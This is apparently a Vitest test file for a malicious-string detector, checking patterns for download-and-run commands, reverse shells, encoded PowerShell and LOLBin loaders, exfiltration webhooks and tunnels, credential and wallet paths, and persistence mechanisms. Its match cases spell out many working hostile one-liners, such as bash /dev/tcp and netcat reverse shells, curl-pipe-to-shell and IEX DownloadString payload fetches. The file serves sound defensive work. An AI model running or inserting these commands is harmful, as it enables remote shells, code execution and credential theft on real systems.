import { describe, expect, it } from "vitest";
import {
  downloadAndRunCommand,
  encodedCommand,
  exfilEndpoint,
  isPublicIpv4,
  looksBase64,
  looksHex,
  looksHighEntropy,
  persistenceCommandKind,
  persistenceKind,
  persistencePathKind,
  reverseShellCommand,
  secretPathKind,
  shannonEntropy,
} from "./strings.js";

/** Deterministic pseudo-random text over an alphabet (a small LCG: no Math.random in tests). */
function pseudoRandom(length: number, alphabet: string, seed = 1): string {
  let x = seed >>> 0;
  let out = "";
  for (let i = 0; i < length; i++) {
    x = (Math.imul(x, 1664525) + 1013904223) >>> 0;
    out += alphabet[(x >>> 16) % alphabet.length];
  }
  return out;
}

const B64 = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";

describe("downloadAndRunCommand", () => {
  it.each([
    "curl -fsSL https://get.example.com/install.sh | sh",
    "curl -s http://x.example/a|bash",
    "wget -qO- https://x.example/s | sudo -E bash -",
    "curl https://x.example/p.py | python3 -",
    "curl https://x.example/p.py | python",
    "wget -O - https://x.example/p | perl",
    'sh -c "$(curl -fsSL https://raw.githubusercontent.com/o/r/main/install.sh)"',
    "bash <(curl -s https://x.example/i.sh)",
    'eval "$(wget -qO- https://x.example/e)"',
    "source <(curl -s https://x.example/env)",
    ". <(curl -s https://x.example/env)",
    "iwr https://x.example/a.ps1 -UseBasicParsing | iex",
    "Invoke-WebRequest -Uri https://x.example/a.ps1 | Invoke-Expression",
    "IEX (New-Object Net.WebClient).DownloadString('https://x.example/a.ps1')",
    "iex ((New-Object System.Net.WebClient).DownloadString('https://x.example/a'))",
    "iex (iwr https://x.example/a.ps1 -UseBasicParsing).Content",
    "(New-Object Net.WebClient).DownloadFile('https://x.example/a.exe', $p); Start-Process $p",
    "curl -o /tmp/x https://x.example/x && chmod +x /tmp/x && /tmp/x",
    "wget https://x.example/x -O /tmp/.u; sh /tmp/.u",
    "wget https://x.example/bot && chmod 777 bot && ./bot",
  ])("matches %s", (s) => {
    expect(downloadAndRunCommand(s)).toBeDefined();
  });

  it.each([
    "curl -s https://api.github.com/repos/o/r | python3 -m json.tool",
    "curl -s https://x.example/data.json | python -c 'import json,sys; print(json.load(sys.stdin))'",
    "curl -s https://x.example/a | jq .name",
    "curl -s https://x.example/sums | shasum -a 256 -c",
    "curl -o archive.tar.gz https://x.example/a.tar.gz && tar xzf archive.tar.gz",
    "wget https://x.example/file.zip",
    "see https://curl.se for details | shop",
    "use fetch() to get the data",
  ])("does not match %s", (s) => {
    expect(downloadAndRunCommand(s)).toBeUndefined();
  });
});

describe("reverseShellCommand", () => {
  it.each([
    "bash -i >& /dev/tcp/45.12.3.4/4444 0>&1",
    "sh -i >& /dev/udp/45.12.3.4/53 0>&1",
    "0<&196;exec 196<>/dev/tcp/45.12.3.4/4444; sh <&196 >&196 2>&196",
    "/bin/bash -c 'bash -i > /dev/tcp/$H/$P 0>&1'",
    "nc -e /bin/sh 45.12.3.4 4444",
    "ncat 45.12.3.4 4444 -e /bin/bash",
    "nc.exe 45.12.3.4 4444 -e cmd.exe",
    "ncat --sh-exec bash 45.12.3.4 4444",
    "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 45.12.3.4 4444 >/tmp/f",
    "socat tcp-connect:45.12.3.4:4444 exec:/bin/bash,pty,stderr",
    "import socket,subprocess,os;s=socket.socket();s.connect(('45.12.3.4',4444));os.dup2(s.fileno(),0)",
    "import pty; pty.spawn('/bin/bash')",
    'perl -e \'use Socket;$i="45.12.3.4";socket(S,PF_INET,SOCK_STREAM,0);connect(S,$a);exec("/bin/sh -i");\'',
    "$c=New-Object System.Net.Sockets.TCPClient('45.12.3.4',4444);$s=$c.GetStream();iex $d",
  ])("matches %s", (s) => {
    expect(reverseShellCommand(s)).toBeDefined();
  });

  it.each([
    "(echo -n > /dev/tcp/$HOST/$PORT) >/dev/null 2>&1",
    "timeout 1 bash -c 'cat < /dev/null > /dev/tcp/localhost/5432'",
    "rsync -e ssh src/ host:dst/",
    "nc -z localhost 8080",
    "s = socket.socket(); s.connect((host, port)); s.sendall(data)",
    "os.dup2(fd, 1)",
  ])("does not match %s", (s) => {
    expect(reverseShellCommand(s)).toBeUndefined();
  });
});

describe("encodedCommand", () => {
  it.each([
    "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
    "powershell.exe -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA",
    "pwsh -e SQBFAFgAIAAoAE4AZQB3",
    "powershell -WindowStyle Hidden -File x.ps1",
    "powershell.exe -w 1 -c Start-Sleep 1",
    "iex ([System.Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($p)))",
    "echo ZWNobyBoaQ== | base64 -d | sh",
    "echo ZWNobyBoaQ== | base64 --decode | sudo bash",
    "certutil -decode payload.b64 payload.exe",
    "certutil.exe -urlcache -split -f http://x.example/a.exe a.exe",
    "mshta https://x.example/a.hta",
    'mshta vbscript:Execute("CreateObject(""WScript.Shell"").Run")',
    'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication"',
    "regsvr32 /s /n /u /i:https://x.example/a.sct scrobj.dll",
    "python3 -c \"import base64;exec(base64.b64decode('aW1wb3J0IG9z'))\"",
    "node -e \"eval(Buffer.from('Y29uc29sZS5sb2coMSk=','base64').toString())\"",
  ])("matches %s", (s) => {
    expect(encodedCommand(s)).toBeDefined();
  });

  it.each([
    "powershell -ExecutionPolicy Bypass -File build.ps1",
    "powershell -NoProfile -Command Get-ChildItem",
    "base64 -d input.b64 > output.bin",
    "certutil -hashfile setup.exe SHA256",
    'python3 -c "import sys; print(sys.version)"',
    'node -e "console.log(process.version)"',
    "mshta.exe is a Windows binary",
  ])("does not match %s", (s) => {
    expect(encodedCommand(s)).toBeUndefined();
  });
});

describe("exfilEndpoint", () => {
  it.each([
    [
      "https://discord.com/api/webhooks/1187654321098765432/aB3dEfGhIjKlMnOpQrStUvWxYz0123456789",
      "discord-webhook",
    ],
    ["https://discordapp.com/api/webhooks/1187654321098765432/x", "discord-webhook"],
    ["https://canary.discord.com/api/v10/webhooks/1187654321098765432/x", "discord-webhook"],
    ["https://hooks.slack.com/services/T04ABCDEF/B05GHIJKL/q1w2e3r4t5y6u7i8o9p0asdf", "slack-webhook"],
    ["https://api.telegram.org/bot6123456789:AAHk3x9Zq/sendDocument", "telegram-bot"],
    ["https://api.telegram.org/bot", "telegram-bot"],
    ["https://pastebin.com/raw/x8Yk2LmQ", "paste-site"],
    ["curl --upload-file ./a https://transfer.sh/a", "paste-site"],
    ["curl -F file=@a https://0x0.st", "paste-site"],
    ["https://a1b2-203-0-113-9.ngrok-free.app/collect", "tunnel"],
    ["http://abc123.ngrok.io", "tunnel"],
    ["https://pale-moon-42.trycloudflare.com/x", "tunnel"],
    ["https://webhook.site/5f0c6e1a-2b3c-4d5e-8f90-1a2b3c4d5e6f", "request-capture"],
    ["https://eo1a2b3c4d5e6f7.m.pipedream.net", "request-capture"],
    ["http://abcdefgh.oast.fun", "request-capture"],
    ["xyz.burpcollaborator.net", "request-capture"],
    ["http://45.133.1.20:8080/upload", "raw-ip"],
    ["https://185.62.190.7/gate.php", "raw-ip"],
    ["tcp://91.92.240.1:4444", "raw-ip"],
  ])("finds %s", (s, kind) => {
    expect(exfilEndpoint(s)?.kind).toBe(kind);
  });

  it.each([
    "http://127.0.0.1:8080/health",
    "http://localhost:3000",
    "http://10.0.0.5/api",
    "http://192.168.1.1/",
    "http://172.20.0.2:5432",
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://100.100.100.200/latest/meta-data/",
    "http://192.0.2.10/doc",
    "https://203.0.113.9/example",
    "http://1.2.3.4/placeholder",
    "https://8.8.8.8/dns-query",
    "https://docs.python.org/3/library/urllib.html",
    "https://discord.com/developers/docs/resources/webhook",
    "https://hooks.slack.com/services/T00000000/B00000000/XXXXXXXXXXXXXXXXXXXXXXXX",
    "./scripts/transfer.sh",
    "profile.io",
    "self.file.io_handler",
    "version 1.2.3.4567",
    "http://999.1.1.1/",
    "https://ngrok.com/docs",
  ])("ignores %s", (s) => {
    expect(exfilEndpoint(s)).toBeUndefined();
  });
});

describe("isPublicIpv4", () => {
  it("tells public addresses from private, reserved and placeholder ones", () => {
    expect(isPublicIpv4("45.133.1.20")).toBe(true);
    for (const ip of [
      "10.1.2.3",
      "127.0.0.1",
      "169.254.169.254",
      "172.31.255.255",
      "224.0.0.1",
      "1.1.1.1",
      "1.2.3.4",
    ])
      expect(isPublicIpv4(ip)).toBe(false);
    expect(isPublicIpv4("172.32.0.1")).toBe(true);
    expect(isPublicIpv4("256.1.1.1")).toBe(false);
    expect(isPublicIpv4("01.2.3.4")).toBe(false);
    expect(isPublicIpv4("a.b.c.d")).toBe(false);
  });
});

describe("secretPathKind", () => {
  it.each([
    ["~/.ssh/id_rsa", "ssh"],
    ["/home/u/.ssh/id_ed25519", "ssh"],
    ["~/.ssh", "ssh"],
    ["~/.aws/credentials", "cloud"],
    ["C:\\Users\\u\\.aws\\credentials", "cloud"],
    ["~/.config/gcloud/application_default_credentials.json", "cloud"],
    ["~/.kube/config", "cloud"],
    ["~/.docker/config.json", "cloud"],
    ["~/.npmrc", "package-registry"],
    ["/home/u/.pypirc", "package-registry"],
    ["AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data", "browser"],
    ["Local State", "browser"],
    ["Default/Network/Cookies", "browser"],
    [".mozilla/firefox/x.default/cookies.sqlite", "browser"],
    ["AppData\\Roaming\\discord\\Local Storage\\leveldb", "discord"],
    ["AppData\\Roaming\\Exodus\\exodus.wallet", "wallet"],
    ["Local Extension Settings\\nkbihfbeogaeaoehlefnkodbefgpgknn", "wallet"],
    ["~/Library/Keychains/login.keychain-db", "keychain"],
  ])("%s is %s", (s, kind) => {
    expect(secretPathKind(s)).toBe(kind);
  });

  it.each([
    "~/.ssh/known_hosts",
    "~/.ssh/config",
    "~/.ssh/authorized_keys",
    "Cookies",
    "cookies",
    "README.md",
    "the .aws folder holds config",
    "discord.py",
  ])("%s is not a secret", (s) => {
    expect(secretPathKind(s)).toBeUndefined();
  });
});

describe("persistence", () => {
  it.each([
    ["~/.bashrc", "shell profile"],
    ["/home/u/.zshrc", "shell profile"],
    ["$HOME/.profile", "shell profile"],
    ["/etc/profile.d/x.sh", "shell profile"],
    [
      "C:\\Users\\u\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\x.lnk",
      "Windows Startup folder",
    ],
    ["Software\\Microsoft\\Windows\\CurrentVersion\\Run", "registry Run key"],
    ["HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce", "registry Run key"],
    ["/etc/cron.d/update", "cron"],
    ["~/Library/LaunchAgents/com.apple.update.plist", "macOS launch agent"],
    ["/etc/systemd/system/update.service", "systemd unit"],
    ["~/.config/autostart/x.desktop", "XDG autostart"],
    ["~/.ssh/authorized_keys", "SSH authorized_keys"],
    ["$PROFILE", "PowerShell profile"],
  ])("path %s is %s", (s, kind) => {
    expect(persistencePathKind(s)).toBe(kind);
    expect(persistenceKind(s)).toBe(kind);
  });

  it.each([
    ["(crontab -l; echo '* * * * * /tmp/x') | crontab -", "cron"],
    ["crontab /tmp/cronjob", "cron"],
    ["systemctl --user enable updater.service", "systemd unit"],
    ["schtasks /create /sc onlogon /tn upd /tr C:\\x.exe", "scheduled task"],
    [
      "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v upd /d C:\\x.exe",
      "registry Run key",
    ],
    ["launchctl load ~/Library/LaunchAgents/x.plist", "macOS launch agent"],
  ])("command %s is %s", (s, kind) => {
    expect(persistenceCommandKind(s)).toBe(kind);
  });

  it.each([
    "source ~/.bashrc",
    "~/.bashrc.bak",
    "crontab -l",
    "crontab",
    "Invalid crontab expression",
    "celery.schedules.crontab",
    "~/.ipython/profile_default/startup/00.py",
    "systemctl status nginx",
    "/etc/systemd/system",
    "profile",
  ])("%s is not persistence", (s) => {
    expect(persistenceKind(s)).toBeUndefined();
  });
});

describe("entropy", () => {
  it("measures bits per character", () => {
    expect(shannonEntropy("")).toBe(0);
    expect(shannonEntropy("aaaa")).toBe(0);
    expect(shannonEntropy("abab")).toBeCloseTo(1);
    expect(shannonEntropy("\u00e9\u00e8\u00e9\u00e8")).toBeCloseTo(1);
  });

  it("recognises base64 and hex", () => {
    expect(looksBase64(pseudoRandom(60, B64))).toBe(true);
    expect(looksBase64("a".repeat(60))).toBe(false);
    expect(looksBase64("short1A")).toBe(false);
    expect(looksHex(pseudoRandom(64, "0123456789abcdef"))).toBe(true);
    expect(looksHex("abc")).toBe(false);
  });

  it("flags random blobs, not text or padding", () => {
    expect(looksHighEntropy(pseudoRandom(300, B64))).toBe(true);
    expect(looksHighEntropy(pseudoRandom(256, "0123456789abcdef"))).toBe(true);
    expect(looksHighEntropy(pseudoRandom(150, B64))).toBe(false); // too short
    expect(looksHighEntropy("A".repeat(400))).toBe(false);
    expect(looksHighEntropy("the quick brown fox jumps over the lazy dog ".repeat(8))).toBe(false);
    expect(looksHighEntropy("abcdefghij".repeat(30))).toBe(false);
  });
});
